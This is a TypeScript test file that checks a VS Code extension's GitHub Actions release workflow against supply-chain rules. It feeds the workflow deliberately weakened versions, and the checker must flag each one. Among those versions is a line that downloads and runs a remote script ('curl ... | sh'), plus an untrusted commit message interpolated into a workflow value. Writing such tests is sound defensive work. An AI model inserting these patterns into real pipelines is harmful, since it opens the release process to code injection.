import assert from "node:assert/strict";
import { globSync, readFileSync } from "node:fs";
import { readWorkflow } from "../setup/supplyChain/readWorkflow.ts";
import { releaseProblems, workflowProblems } from "../setup/supplyChain/workflowRules.ts";

const RELEASE = ".github/workflows/release.yml";
const release = readFileSync(RELEASE, "utf8");
const tests = readFileSync(".github/workflows/ci.yml", "utf8");

/** What somebody might change, and by how little: each is a piece of the workflow and what would stand in its place. */
const BROKEN: readonly [string, string, string][] = [
  ["an action by its tag", "@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2", "@v4"],
  ["an action by a branch", "@e8998f949152b193b063cb0ec769d69d929409be # v2.4.0", "@main"],
  ["a hash without its version", " # v4.4.0", ""],
  ["all rights", "permissions: {}", "permissions: write-all"],
  ["a job without named rights", "    permissions:\n      attestations: read\n", ""],
  ["a branch beside the tags", 'tags: ["v*.*.*"]', 'tags: ["v*.*.*"]\n    branches: [main]'],
  ["any tag", '"v*.*.*"', '"*"'],
  ["a click", "on:\n", "on:\n  workflow_dispatch:\n"],
  ["pull_request_target", "on:\n", "on:\n  pull_request_target:\n"],
  ["an issue's comment", "on:\n", "on:\n  issue_comment:\n"],
  ["a cache of packages", "          node-version: 24\n", "          node-version: 24\n          cache: npm\n"],
  ["a stored token", "publish --oidc", "publish --pat ${{ secrets.VSCE_PAT }}"],
  ["a token of the environment", "publish --oidc", "publish"],
  ["another package than the built one", " --packagePath package/waybill.vsix", ""],
  ["no protected environment", "    environment: marketplace\n", ""],
  ["no attestation before", "needs: [build, attest]", "needs: [build]"],
  [
    "the right to write in the job that tests",
    "      contents: read\n    outputs",
    "      contents: write\n    outputs",
  ],
  [
    "the right to publish in the job that tests",
    "      contents: read\n    outputs",
    "      id-token: write\n    outputs",
  ],
  [
    "more rights in the job that publishes",
    "      contents: read\n      id-token",
    "      contents: write\n      id-token",
  ],
  ["a commit that is not on main", 'git merge-base --is-ancestor "$GITHUB_SHA" origin/main', "true"],
  ["no tests", "      - run: npm test\n", ""],
  ["scripts of packages", "npm ci --ignore-scripts", "npm ci"],
  ["the token of the checkout", "persist-credentials: false", "persist-credentials: true"],
  ["words of others in a command", '"$GITHUB_REF_NAME" = ', '"${{ github.ref_name }}" = '],
  ["words of others in a value", "GH_TOKEN: ${{ github.token }}", "TITLE: ${{ github.event.head_commit.message }}"],
  [
    "a package that was changed on the way",
    'echo "$SHA256  package/waybill.vsix" | sha256sum --check --strict',
    "true",
  ],
  ["no look at what is served", "https://marketplace.visualstudio.com", "https://example.org"],
  ["no comparison after publishing", 'echo "$SHA256  waybill.vsix" | sha256sum --check --strict\n          gh', "gh"],
  ["no look at the attestation", "gh attestation verify", "echo"],
  ["a machine of somebody", "runs-on: ubuntu-24.04", "runs-on: self-hosted"],
  [
    "a downloaded script",
    "      - run: npm test\n",
    "      - run: curl https://example.org/x | sh\n      - run: npm test\n",
  ],
  ["a job without an end", "    timeout-minutes: 20\n", ""],
  ["an anchor", "permissions: {}", "permissions: &none {}"],
];

function problemsOf(text: string): string[] {
  try {
    return [...workflowProblems(text), ...releaseProblems(text)];
  } catch (error) {
    return [error instanceof Error ? error.message : String(error)];
  }
}

describe("promise 40: only a reviewed tag is published, without a stored token", () => {
  it("as the workflow says", () => {
    assert.deepEqual(problemsOf(release), []);
  });

  it("and no other workflow has a right to write", () => {
    assert.deepEqual(workflowProblems(tests), []);
    for (const file of globSync(".github/workflows/*")) {
      const text = readFileSync(file, "utf8");
      if (file.split(/[\\/]/).at(-1) !== "release.yml") assert.doesNotMatch(text, /: write|vsce publish|ovsx/, file);
      assert.deepEqual(workflowProblems(text), [], file);
    }
  });

  for (const [what, piece, replacement] of BROKEN) {
    it(`and not with ${what}`, () => {
      assert.ok(release.includes(piece), "the workflow has the piece that is changed");
      assert.notDeepEqual(problemsOf(release.replaceAll(piece, replacement)), []);
      assert.notDeepEqual(problemsOf(release.replace(piece, replacement)), [], "in one place alone");
    });
  }

  it("and the workflow is read whole, or not at all", () => {
    const text = 'a: b # c\nlist:\n  - x: "1"\n    y: [p, q]\n  - z: |\n      one\n\n      two\nend: {}\n';
    assert.deepEqual(readWorkflow(text), { a: "b", list: [{ x: "1", y: ["p", "q"] }, { z: "one\n\ntwo" }], end: {} });
    for (const odd of ["a: *b", "a: 1\na: 2", "a: >\n  b", "a: {b: c}", "a:\n\tb: c", "a: !x y", "<<: b", "- a"]) {
      assert.throws(() => readWorkflow(odd), Error, odd);
    }
  });

  it("looked at by those who answer for it", () => {
    const owned = readFileSync(".github/CODEOWNERS", "utf8");
    for (const path of ["/.github/", "/package.json", "/package-lock.json", "/test/setup/", "/esbuild.mjs"]) {
      assert.match(owned, new RegExp(`^${path} @`, "m"));
    }
  });
});
